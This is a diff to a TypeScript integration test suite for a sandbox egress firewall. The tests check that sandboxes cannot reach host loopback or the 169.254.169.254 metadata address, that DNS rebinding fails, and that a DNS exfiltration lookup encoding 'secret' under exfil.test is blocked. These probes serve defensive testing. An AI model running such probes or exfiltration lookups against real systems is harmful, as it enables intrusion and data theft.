@@ -6,6 +6,8 @@
  */
 import type { TestNetwork } from "@polydev/core/testing";
 import { startTestNetwork, testNetworkUnavailable } from "@polydev/core/testing";
+import type { FakeProviders } from "@polydev/fake-providers";
+import { startFakeProviders } from "@polydev/fake-providers";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { TestServer } from "./testing/harness.js";
 import { startTestServer } from "./testing/harness.js";
@@ -30,6 +32,7 @@ describe.skipIf(unavailable !== undefined)(
     let net: TestNetwork;
     let t: TestServer;
     let id: string;
+    let fake: FakeProviders;
 
     /** curl inside the sandbox; its exit code says how it failed (6: no address, 7: refused, 35/56: TLS/recv). */
     const curl = async (...args: string[]) => {
@@ -52,6 +55,17 @@ describe.skipIf(unavailable !== undefined)(
         if (expected.every((match) => events.some(match)) || attempt === 50) return events;
         await new Promise((resolve) => setTimeout(resolve, 200));
       }
+    };
+    const waitForRun = async (runId: string): Promise<{ state: string; exitReason: string | null }> => {
+      for (let attempt = 0; attempt < 600; attempt++) {
+        const run = await t.api.call<{ state: string; exitReason: string | null }>(
+          "GET",
+          `/v1/runs/${runId}`,
+        );
+        if (["succeeded", "failed", "cancelled", "timed_out"].includes(run.body.state)) return run.body;
+        await new Promise((resolve) => setTimeout(resolve, 100));
+      }
+      throw new Error(`run ${runId} did not end`);
     };
     /** Fails unless the audit log comes to hold an event `match` describes. */
     const expectAudited = async (match: (e: AuditEvent) => boolean): Promise<void> => {
@@ -81,7 +95,11 @@ describe.skipIf(unavailable !== undefined)(
         "private.test": [net.privateServerAddress],
         "api.wild.test": [net.serverAddress],
       });
-      t = await startTestServer({ egressDnsServers: [net.dnsServer] });
+      fake = await startFakeProviders();
+      t = await startTestServer({
+        egressDnsServers: [net.dnsServer],
+        upstreams: { anthropic: fake.url, openai: fake.url, gemini: fake.url },
+      });
       id = await t.api.createSandbox({
         network: { mode: "allowlist", allow: ["allowed.test", "second.test", "*.wild.test"], deny: [] },
       });
@@ -97,6 +115,7 @@ describe.skipIf(unavailable !== undefined)(
     }, 120_000);
     afterAll(async () => {
       await t?.close();
+      await fake?.close();
       await net?.close();
     });
 
@@ -332,6 +351,107 @@ describe.skipIf(unavailable !== undefined)(
       expect(created.body.egressPolicy.allow).toEqual(["allowed.test"]);
       await t.api.call("PUT", `/v1/admin/users/${me.body.id}/network-default`, { network: null });
       await t.api.call("DELETE", `/v1/sandboxes/${other}`);
+    });
+
+    it("never reaches the host itself, whatever the rules say: its loopback, its addresses, link-local", async () => {
+      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: ["*", "0.0.0.0/0"], presets: [] });
+      const serverPort = new URL(t.url).port;
+      for (const address of ["127.0.0.1", net.hostAddress, "169.254.169.254"]) {
+        const probe = await t.api.exec(id, [
+          "python3",
+          "-c",
+          `import socket\ns = socket.create_connection(("${address}", ${serverPort}), timeout=5)\ns.sendall(b"GET /healthz HTTP/1.0\\r\\n\\r\\n")\nprint(repr(s.recv(4096)))`,
+        ]);
+        // Refused inside (nothing listens there) or by the policy (its 403), never the server itself.
+        expect(probe.body.stdout, address).not.toContain("200 OK");
+      }
+      // A name the rules allow, answered with the host's loopback, is no way in either.
+      expect((await curl(`http://rebind.test:${serverPort}/healthz`)).exitCode).not.toBe(0);
+      await expectAudited((e) => e.address === net.hostAddress && e.reason === "never_reachable");
+      await expectAudited((e) => e.address === "169.254.169.254" && e.decision === "denied");
+    });
+
+    it("never asks the resolver about a name the rules do not allow (no DNS exfiltration)", async () => {
+      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: ["allowed.test"], presets: [] });
+      await t.api.exec(id, "getent hosts c2VjcmV0.exfil.test || true");
+      await curl("http://allowed.test/");
+      const asked = (await net.dnsQueries()).map((q) => q.name.toLowerCase());
+      expect(asked).toContain("allowed.test");
+      expect(asked.some((name) => name.includes("exfil"))).toBe(false);
+      await expectAudited(
+        (e) => e.kind === "dns" && e.host === "c2vjcmv0.exfil.test" && e.decision === "denied",
+      );
+    });
+
+    it("runs a run's setup under wider rules, then the agent under the sandbox's own", async () => {
+      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: ["allowed.test"], presets: [] });
+      await t.api.call("PUT", "/v1/credentials/anthropic", { apiKey: "sk-egress-test-key-123456" });
+      fake.setScript([{ text: "Set up and done." }]);
+      const started = await t.api.call<{ id: string }>("POST", "/v1/runs", {
+        agent: "builtin",
+        prompt: "say done",
+        sandboxId: id,
+        setup: {
+          command: "curl -sSf http://other.test/ -o fetched-in-setup.txt",
+          network: { allow: ["other.test"] },
+        },
+      });
+      expect(started.status).toBe(201);
+      const run = await waitForRun(started.body.id);
+      expect(run.state, run.exitReason ?? "").toBe("succeeded");
+      const fetched = await t.api.call("GET", `/v1/sandboxes/${id}/files/content?path=fetched-in-setup.txt`);
+      expect(String(fetched.body)).toContain("hello from other.test");
+      // The wider rules ended with the setup.
+      expect((await curl("http://other.test/")).exitCode).toBe(6);
+
+      const failing = await t.api.call<{ id: string }>("POST", "/v1/runs", {
+        agent: "builtin",
+        prompt: "never reached",
+        sandboxId: id,
+        setup: { command: "curl -sSf http://other.test/" },
+      });
+      const failed = await waitForRun(failing.body.id);
+      expect(failed.state).toBe("failed");
+      expect(failed.exitReason).toContain("setup_failed");
+      fake.setScript(undefined);
+
+      const plain = await t.api.createSandbox({});
+      const refused = await t.api.call<{ error: { code: string } }>("POST", "/v1/runs", {
+        agent: "builtin",
+        prompt: "x",
+        sandboxId: plain,
+        setup: { command: "true", network: { allow: ["other.test"] } },
+      });
+      expect(refused.status).toBe(409);
+      await t.api.call("DELETE", `/v1/sandboxes/${plain}`);
+    });
+
+    it("survives a sandbox destroyed in the middle of a transfer through its policy", async () => {
+      const doomed = await t.api.createSandbox({ network: { mode: "allowlist", allow: ["allowed.test"] } });
+      const download = t.api.exec(
+        doomed,
+        ["curl", "-sS", "-o", "/dev/null", "http://allowed.test/bytes/536870912"],
+        {
+          timeoutMs: 60_000,
+        },
+      );
+      // Wait until bytes flow, then pull the sandbox out from under the connection.
+      for (let attempt = 0; attempt < 100; attempt++) {
+        const metrics = await (
+          await fetch(`${t.url}/metrics`, { headers: { authorization: `Bearer ${t.adminKey}` } })
+        ).text();
+        if (/polydev_egress_connections_total\{kind="dns",decision="allowed"/.test(metrics)) break;
+        await new Promise((resolve) => setTimeout(resolve, 50));
+      }
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      expect((await t.api.call("DELETE", `/v1/sandboxes/${doomed}`)).status).toBe(200);
+      const ended = await download;
+      expect([200, 409, 502]).toContain(ended.status);
+      const health = await fetch(`${t.url}/healthz`);
+      expect(health.status).toBe(200);
+      // The sandbox under test is unaffected.
+      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: ["allowed.test"], presets: [] });
+      expect((await curl("http://allowed.test/")).exitCode).toBe(0);
     });
 
     it("keeps intercepting across a server restart", async () => {
